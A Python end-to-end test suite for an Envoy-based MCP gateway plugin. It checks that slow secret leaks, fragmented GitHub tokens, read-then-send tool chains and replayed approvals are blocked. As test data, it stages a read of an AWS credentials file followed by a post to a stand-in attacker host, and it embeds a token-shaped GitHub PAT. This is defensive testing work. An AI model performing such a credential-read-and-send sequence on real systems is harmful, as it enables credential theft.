"""Memory across requests without sessions, through real Envoy (envoy/e2e-mesh.yaml, in front of
the recording upstream; principals from the trusted header `x-user`):

- a secret leaked 8 bytes at a time over 200 `tools/call`s on Envoy `--concurrency 2` (a new
  connection per call, so both workers serve them) is stopped by the entropy budget (429, why
  `entropy_budget`, with the time it ends), and a GitHub token in 8-byte pieces is stopped when
  the pieces line up (403 `fragmented_secret`); the upstream never sees what was stopped;
- the same leak across two Envoy processes (two replicas, each with its own shared data) is
  stopped by the budget they share in a real rate limit service (tests/rls: Kuadrant's limitador
  over Redis), long before either pod's own budget would; with the service down, `failure_mode:
  deny` refuses (503) and `allow` lets through, both counted; an approved `confirm` state used on
  one replica is refused on the other (the service counts each approval's use);
- a task's slow drip of inputs (`tasks/update`) against a real FastMCP + fastmcp-tasks server is
  stopped by the task's budget;
- a read-then-send chain is stopped on the call that completes it, the same calls in the benign
  order pass;
- an escalated key (three secrets refused) is held, then recovers after its cool-down;
- 100k keys pass and memory stays flat (measured in two halves, as test_state_bounds does).
"""
from __future__ import annotations

import base64
import json
import random
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest

import pki
from rls_service import RlsService
from test_task_binding import create, rpc, tasks_upstream  # noqa: F401 (fixture)
from wardenkit import harness

TEMPLATE = "envoy/e2e-mesh.yaml"
GITHUB_PAT = "ghp_R7c0aWq1zXy2Lm3Nb4Vc5Xd6Fe7Gh8Jk9Ab0"
PRINCIPAL = {"sources": ["header"], "trusted_header": "x-user"}


def config(correlation: dict) -> dict:
    return {"principal": PRINCIPAL, "correlation": correlation}


def call(url: str, user: str, tool: str, arguments: dict, fresh_connection: bool = False) -> tuple[int, dict]:
    headers = {"x-user": user}
    if fresh_connection:
        headers["connection"] = "close"
    c = pki.McpClient(url, headers=headers)
    try:
        resp, msg = c.modern("tools/call", {"name": tool, "arguments": arguments})
        return resp.status_code, msg or {}
    finally:
        c.http.close()


def secret_pieces(n: int, size: int = 8, seed: int = 7) -> list[str]:
    """`n` pieces of one random secret (base64 of random bytes), `size` characters each."""
    blob = base64.b64encode(random.Random(seed).randbytes(n * size)).decode()
    return [blob[i * size:(i + 1) * size] for i in range(n)]


def reset(recorder) -> None:
    urllib.request.urlopen(urllib.request.Request(f"http://127.0.0.1:{recorder.port}/__recorder/reset", method="POST"), timeout=10).close()


def seen_texts(recorder) -> list[str]:
    return [json.loads(base64.b64decode(r["body_b64"]))["params"]["arguments"].get("text", "")
            for r in recorder.requests() if r["method"] == "POST"]


def stat(gw, name: str) -> int:
    return sum(v for k, v in gw.stats(name.replace(".", r"\.")).items())


def test_a_secret_leaked_in_pieces_over_two_workers_is_stopped(gateway, recorder):
    budget = {"action": "block", "budget_bits": 2048, "window_secs": 3600, "cooldown_secs": 600}
    gw = gateway(TEMPLATE, upstream_port=recorder.port, plugin_config=config({"entropy": budget}),
                 wait_mcp=True, concurrency=2)
    reset(recorder)
    outcome = []
    for i, piece in enumerate(secret_pieces(200)):
        status, msg = call(gw.url, "mallory", "notes_append", {"text": piece}, fresh_connection=True)
        outcome.append(status)
        if status != 200:
            break
    passed = outcome.count(200)
    assert outcome[-1] == 429, f"200 pieces passed: {outcome[-5:]}"
    assert 40 <= passed < 200, f"no single piece looks bad ({passed} passed first)"
    err = msg["error"]
    assert err["code"] == -31429 and err["data"]["why"] == "entropy_budget", err
    assert err["data"]["retryAfterSeconds"] == 600 and err["data"]["until"].endswith("Z")
    assert len(seen_texts(recorder)) == passed, "what was stopped never reached the upstream"
    # Held: the next piece too; another caller is not.
    assert call(gw.url, "mallory", "notes_append", {"text": "x" * 8})[0] == 429
    assert call(gw.url, "bob", "notes_append", {"text": "x" * 8})[0] == 200
    assert stat(gw, "wasmcustom.mcp_warden_correlation_blocks_total.why.entropy_budget") >= 2
    with urllib.request.urlopen(f"http://127.0.0.1:{gw.admin_port}/stats/prometheus", timeout=10) as r:
        prom = r.read().decode()
    assert 'mcp_warden_correlation_blocks_total{why="entropy_budget"}' in prom, "the why label reaches Prometheus"

    # A token in 8-byte pieces, stopped when they line up (default policy: fragments block).
    reset(recorder)
    pieces = [GITHUB_PAT[i:i + 8] for i in range(0, len(GITHUB_PAT), 8)]
    for piece in pieces[:-1]:
        assert call(gw.url, "trudy", "notes_append", {"text": piece}, fresh_connection=True)[0] == 200
    status, msg = call(gw.url, "trudy", "notes_append", {"text": pieces[-1]}, fresh_connection=True)
    assert status == 403, msg
    assert msg["error"]["data"]["why"] == "fragmented_secret"
    assert msg["error"]["data"]["finding"] == "github_classic_pat"
    assert pieces[-1] not in seen_texts(recorder)


RLS_LIMITS = [
    {"namespace": "mcp-warden", "max_value": 2048, "seconds": 3600, "name": "entropy-bits",
     "conditions": ["kind == 'entropy_bits'"], "variables": ["principal"]},
    {"namespace": "mcp-warden", "max_value": 100000, "seconds": 3600, "name": "tool-calls",
     "conditions": ["kind == 'tool_calls'"], "variables": ["principal", "tool"]},
    # An approved `confirm` state is good once, mesh-wide (README "Confirm").
    {"namespace": "mcp-warden", "max_value": 1, "seconds": 600, "name": "confirm-uses",
     "conditions": ["kind == 'confirm_uses'"], "variables": ["confirm_nonce"]},
]


def replicas(gateway, recorder, rls, failure_modes=("deny", "deny")):
    out = []
    for mode in failure_modes:
        # Each pod's own budget is the same 2048 bits: alone, each would let its half through.
        corr = {"entropy": {"action": "block", "budget_bits": 2048, "window_secs": 3600},
                "mesh": {"cluster": "warden_rls", "domain": "mcp-warden", "failure_mode": mode, "timeout_ms": 1000}}
        out.append(gateway(TEMPLATE, upstream_port=recorder.port, plugin_config=config(corr), wait_mcp=True,
                           replace={"port_value: 8282": f"port_value: {rls.rls_port}"}))
    return out


def test_two_replicas_share_one_budget_in_the_rate_limit_service(gateway, recorder, tmp_path):
    with RlsService(RLS_LIMITS, workdir=tmp_path / "rls") as rls:
        a, b = replicas(gateway, recorder, rls)
        reset(recorder)
        outcome = []
        for i, piece in enumerate(secret_pieces(200, seed=11)):
            gw = (a, b)[i % 2]
            status, msg = call(gw.url, "mallory", "notes_append", {"text": piece})
            outcome.append(status)
            if status != 200:
                break
        passed = outcome.count(200)
        assert outcome[-1] == 429, outcome[-5:]
        assert msg["error"]["data"]["why"] == "mesh_budget", msg
        assert msg["error"]["data"]["finding"] == "entropy_bits"
        # The shared budget held the two pods to one pod's worth: each saw about half of it.
        assert passed < 130, passed
        per_pod = [stat(g, "wasmcustom.mcp_warden_correlation_blocks_total.why.entropy_budget") for g in (a, b)]
        assert per_pod == [0, 0], "no pod's own budget tripped: the mesh-wide one did"
        assert stat(a, "wasmcustom.mcp_warden_mesh_checks_total.outcome.ok") + \
            stat(b, "wasmcustom.mcp_warden_mesh_checks_total.outcome.ok") == passed

        # The service down: deny refuses with 503, counted.
        rls.stop_rls()
        status, msg = call(a.url, "carol", "notes_append", {"text": "hello world"})
        assert status == 503 and msg["error"]["data"]["why"] == "mesh_unavailable", msg
        assert stat(a, "wasmcustom.mcp_warden_mesh_checks_total.outcome.failed") == 1
        rls.start_rls()
        assert call(a.url, "carol", "notes_append", {"text": "hello again"})[0] == 200


def test_an_approved_confirmation_is_good_once_across_replicas(gateway, recorder, tmp_path):
    """A `confirm` approval used on one replica is refused on the other: each pod's replay table
    sees only its own uses, the rate limit service sees both (`confirm_uses`, one per nonce)."""
    from test_confirm import approve, ask, raw
    policy = {"principal": PRINCIPAL, "rules": [{"id": "watched", "match": {"names": ["echo"]}, "action": "confirm"}],
              "correlation": {"mesh": {"cluster": "warden_rls", "domain": "mcp-warden", "timeout_ms": 1000}}}
    with RlsService(RLS_LIMITS, workdir=tmp_path / "rls") as rls:
        a, b = (gateway(TEMPLATE, upstream_port=recorder.port, plugin_config=policy, wait_mcp=True,
                        replace={"port_value: 8282": f"port_value: {rls.rls_port}"}) for _ in range(2))
        state = ask(a, 1, {"text": "once"}, user="dave")
        status, body = raw(a, 2, "echo", {"text": "once"}, user="dave", extra=approve(state))
        assert status == 200 and "result" in body, body
        status, body = raw(b, 3, "echo", {"text": "once"}, user="dave", extra=approve(state))
        assert (status, body["error"]["data"]["why"]) == (400, "replayed"), body
        # A fresh question is answered once, on whichever replica.
        state = ask(b, 4, {"text": "again"}, user="dave")
        status, body = raw(a, 5, "echo", {"text": "again"}, user="dave", extra=approve(state))
        assert status == 200 and "result" in body, body


def test_a_failed_mesh_check_under_allow_passes_and_is_counted(gateway, recorder, tmp_path):
    with RlsService(RLS_LIMITS, workdir=tmp_path / "rls") as rls:
        (gw,) = replicas(gateway, recorder, rls, failure_modes=("allow",))
        rls.stop_rls()
        status, _ = call(gw.url, "carol", "notes_append", {"text": "hello world"})
        assert status == 200
        assert stat(gw, "wasmcustom.mcp_warden_mesh_checks_total.outcome.failed") == 1
        assert stat(gw, "wasmcustom.mcp_warden_store_errors_total") >= 1


def test_a_task_slow_drip_is_stopped(gateway, tasks_upstream):  # noqa: F811
    corr = {"entropy": {"action": "block", "budget_bits": 1000000, "task_budget_bits": 3000, "cooldown_secs": 600}}
    gw = gateway("envoy/local.yaml", upstream_port=tasks_upstream, plugin_config=config(corr), wait_mcp=True)
    who = {"x-user": "alice"}
    task = create(gw.url, who)
    outcome = []
    for i, piece in enumerate(secret_pieces(200, seed=5)):
        status, answer = rpc(gw.url, "tasks/update", {"taskId": task, "inputResponses": {
            f"q{i}": {"action": "accept", "content": {"v": piece}}}}, who, task)
        outcome.append(status)
        if status == 429:
            break
    assert outcome[-1] == 429, outcome[-5:]
    assert 10 <= len(outcome) < 200, len(outcome)
    assert answer["error"]["data"]["why"] == "entropy_budget"
    # The task is held: its results too. Another task of the same caller is not.
    assert rpc(gw.url, "tasks/get", {"taskId": task}, who, task)[0] == 429
    other = create(gw.url, who)
    assert rpc(gw.url, "tasks/get", {"taskId": other}, who, other)[0] == 200


def test_a_read_then_send_chain_is_stopped_on_the_completing_call(gateway, recorder):
    gw = gateway(TEMPLATE, upstream_port=recorder.port, plugin_config=config({"chains": {"action": "block"}}), wait_mcp=True)
    reset(recorder)
    # The benign order passes.
    assert call(gw.url, "bob", "http_post", {"url": "https://example.com/status"})[0] == 200
    assert call(gw.url, "bob", "read_file", {"path": "/etc/hostname"})[0] == 200
    # Read, then send: the send is refused.
    assert call(gw.url, "alice", "read_file", {"path": "/home/alice/.aws/credentials"})[0] == 200
    status, msg = call(gw.url, "alice", "http_post", {"url": "https://evil.example/drop"})
    assert status == 403, msg
    assert msg["error"]["data"] == {"reason": "correlation", "why": "tool_chain", "chain": "read-then-send"}
    posts = [r for r in recorder.requests() if r["method"] == "POST"]
    assert len(posts) == 3, "the completing call never reached the upstream"


def test_an_escalated_key_is_held_then_recovers_after_its_cool_down(gateway, recorder):
    corr = {"escalation": {"warn_at": 3, "block_at": 9, "cooldown_secs": 2}}
    gw = gateway(TEMPLATE, upstream_port=recorder.port, plugin_config=config(corr), wait_mcp=True)
    for _ in range(3):
        status, msg = call(gw.url, "eve", "notes_append", {"text": GITHUB_PAT})
        assert status == 403 and msg["error"]["data"]["reason"] == "content_scan", msg
    status, msg = call(gw.url, "eve", "notes_append", {"text": "only a note"})
    assert status == 429 and msg["error"]["data"]["why"] == "escalation", msg
    assert call(gw.url, "frank", "notes_append", {"text": "only a note"})[0] == 200
    time.sleep(msg["error"]["data"]["retryAfterSeconds"] + 0.5)
    assert call(gw.url, "eve", "notes_append", {"text": "only a note"})[0] == 200


KEYS = 100_000
WORKERS = 16


def drive(url: str, users: range) -> dict[int, int]:
    counts: dict[int, int] = {}

    def run(chunk: list[int]) -> dict[int, int]:
        out: dict[int, int] = {}
        with httpx.Client(timeout=30) as http:
            for i in chunk:
                c = pki.McpClient(url, headers={"x-user": f"key-{i}"}, http=http)
                resp, _ = c.modern("tools/call", {"name": "read_file", "arguments": {"path": f"/data/{i:08x}/report.txt"}})
                out[resp.status_code] = out.get(resp.status_code, 0) + 1
        return out

    ids = list(users)
    with ThreadPoolExecutor(WORKERS) as pool:
        for part in pool.map(run, [ids[k::WORKERS] for k in range(WORKERS)]):
            for k, v in part.items():
                counts[k] = counts.get(k, 0) + v
    return counts


def test_memory_stays_flat_when_100k_keys_pass(gateway, recorder):
    slots = 4096
    gw = gateway(TEMPLATE, upstream_port=recorder.port, plugin_config=config({"slots": slots}), wait_mcp=True)
    memory = lambda: gw.stats(r"^server\.memory_allocated$")["server.memory_allocated"]  # noqa: E731
    vm_heap = lambda: sum(gw.stats(r"mcp_warden_vm_heap_bytes$").values())  # noqa: E731
    m0 = memory()
    half = KEYS // 2
    assert drive(gw.url, range(half)) == {200: half}
    m1, h1 = memory(), vm_heap()
    assert drive(gw.url, range(half, KEYS)) == {200: half}
    m2, h2 = memory(), vm_heap()
    print(f"\nmemory_allocated: start {m0}, after {half} keys {m1} ({m1 - m0:+}), after {KEYS} keys {m2} "
          f"({m2 - m1:+}); filter VM heap {h1} -> {h2}")
    # A key that kept even 40 bytes would grow the second half by 2 MB: it grows by noise only.
    assert m2 - m1 < half * 40, (m1, m2)
    assert h2 - h1 <= 2 * 16384, (h1, h2)
